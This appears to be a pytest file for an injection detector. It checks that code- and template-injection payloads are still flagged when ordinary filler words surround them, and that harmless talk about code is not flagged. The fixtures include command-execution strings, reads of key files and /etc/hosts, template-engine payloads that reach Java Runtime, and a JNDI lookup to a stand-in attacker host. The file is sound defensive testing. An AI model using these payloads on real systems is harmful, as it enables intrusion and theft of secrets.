"""Words around an attack that do not keep it from working, and the same words of honest people."""

from __future__ import annotations

import pytest
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.code import DETECTOR as CODE
from vallum.inspection.detectors.template import DETECTOR as TEMPLATE

WORDS = "a small red boat waits near our harbour since Monday "


@pytest.mark.parametrize(
    "text",
    [
        # In strings and comments of the program
        f"/* {WORDS} */ 'whoami'.execute().text",
        f"def note = '{WORDS}'; 'whoami'.execute()",
        f"-- {WORDS}\nos.execute('whoami')",
        f'System.cmd("whoami", []) # {WORDS}',
        f'Sys.command "whoami" (* {WORDS} *)',
        f'(* {WORDS} *) Sys.command "whoami"',
        f"/* {WORDS} */ while(1);",
        f"'{WORDS}'+process.env.HOME_SECRET",
        f"'''\n{WORDS}\n'''\n__import__('platform').system('whoami')",
        f"''.__class__.__mro__[1] and '{WORDS}'",
        f"%w({WORDS});Marshal.load('x')",
        f'System.Diagnostics.Process.Start("notepad"); // {WORDS}',
        f'(clojure.java.shell/sh "whoami" "{WORDS}")',
        f"require('fs').readFileSync('/srv/a.key') // {WORDS}",
        f"x'; Kernel.exec('whoami'); y = '{WORDS}",
        # In what languages write in words, and in names of one's own
        "0 if not a is b else __import__('os').uname()",
        "(a, __import__('subprocess').run('whoami'))",
        "{a: process.exit()}",
        "pass\n__import__('subprocess').run('whoami')",
        "имя_переменной=__import__('subprocess').run('whoami')",
        "process; module; exports; require; process.binding('fs')",
        "'```';__import__('subprocess').run('whoami')",
        # Outside of the marks that a server looks for
        f"{WORDS}<?php readfile('/srv/a.key'); ?> {WORDS}",
        f"{WORDS}<?= file_get_contents('/srv/a.key') ?> {WORDS}",
        f"<?php /* {WORDS} */ include '../../a.log'; ?>",
        f"{WORDS}<?php $a='sys'.'tem';$a('whoami');?> {WORDS}",
        f'{WORDS}<c:import url="file:///srv/a.key"/> {WORDS}',
        f'{WORDS}<jsp:include page="/WEB-INF/web.xml"/> {WORDS}',
        f'{WORDS}<%@ include file="/etc/hosts" %> {WORDS}',
        f'{WORDS}<cfexecute name="whoami" timeout="5"></cfexecute> {WORDS}',
        f"{WORDS}\\immediate\\write18{{whoami}} {WORDS}",
        f"class.module.classLoader.resources.context.path={WORDS}",
        # What looks like a formula, or like a function that is handed over
        "$f='system';$f('whoami');//$",
        "$f='system';$f('whoami');$b=['a'=>1];",
    ],
)
def test_words_do_not_spare_code(text: str) -> None:
    assert Suspects(CODE).score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "Please never call os.system('ls') in this project, it is not portable",
        "Our linter tells me that process.exit() should not be used in libraries",
        "How do I replace system('ls -la') in the old script of my colleague?",
        "In an old page I found the tag <?php and do not know what it means",
        "You can write <?php include 'header.php'; ?> at the top of every page",
        "He said that the element <cfexecute> was once used for this kind of thing",
        "Does anybody know whether \\write18 is allowed on the server of the journal?",
        "Bitte benutzen Sie os.system('ls') nicht mehr in den neuen Programmen",
        "Мы больше не используем os.system('ls') в наших программах",
        "Dear all,\nplease replace\nos.system('ls')\nby something better, thank you",
        "The value of $f(x)$ is always positive",
        "$effect(() => { count += 1 })",
        "Look at this:\n\n```python\nimport subprocess\nsubprocess.run(args)\n```\nIt hangs.",
        "def start(command):\n    return subprocess.run(command)",
    ],
)
def test_people_may_still_write_of_code(text: str) -> None:
    assert Suspects(CODE).score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        f"{WORDS}${{jndi:dns:/a.attacker.example}}",
        f"{WORDS}${{jndi:dns:a.attacker.example}} {WORDS}",
        f"{WORDS}#set($a = $class.inspect('java.lang.Runtime').type)$a.x {WORDS}",
        f"{WORDS}#macro(a)$x.class.forName('java.lang.Runtime')#end {WORDS}",
        f"{WORDS}#include('/etc/hosts') {WORDS}",
        f"{WORDS}#evaluate($request.getParameter('a')) {WORDS}",
        f"{WORDS}@System.IO.File.ReadAllText('web.config') {WORDS}",
        f'{WORDS}<#include "/etc/hosts"> {WORDS}',
        f"{WORDS}[% INCLUDE /etc/hosts %] {WORDS}",
        f"{WORDS}[% RAWPERL %] print 1 [% END %] {WORDS}",
        f"{WORDS}{{{{ lookup('pipe','whoami') }}}} {WORDS}",
        f'{WORDS}{{{{.System "whoami"}}}} {WORDS}',
        f"{WORDS}{{{{ source('/etc/hosts') }}}} {WORDS}",
        f"{WORDS}{{{{ include('../../a.log') }}}} {WORDS}",
        f"{WORDS}{{{{ messages.storages.0.signer.key }}}} {WORDS}",
        f'{WORDS}<p tal:content="python: 6*9"> {WORDS}',
        f'{WORDS}$class.inspect("java.lang.Runtime") {WORDS}',
    ],
)
def test_an_engine_prints_the_words_around(text: str) -> None:
    assert Suspects(TEMPLATE).score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "The lookup ${jndi:...} is what made that old hole in the logger so famous",
        "A string like ${jndi:ldap} in our logs means that somebody is scanning us",
        "In Velocity I write #set($total = 5) at the top, but then the page stays empty",
        "Use <#assign name='Anna'> if you want a variable in all of your templates",
        "Please contact @System.Admin when the page is not there in the morning",
        "- hosts: all\n  tasks:\n    - name: a\n      debug:\n  msg: {{ lookup('pipe', 'date') }}",
        "Dear {{ user.name }}, your order {{ order.id }} has been sent to you today",
        'Our chart has {{ include "shop.labels" . }} in every one of its files',
    ],
)
def test_people_may_still_write_of_templates(text: str) -> None:
    assert Suspects(TEMPLATE).score(text) < STOPS
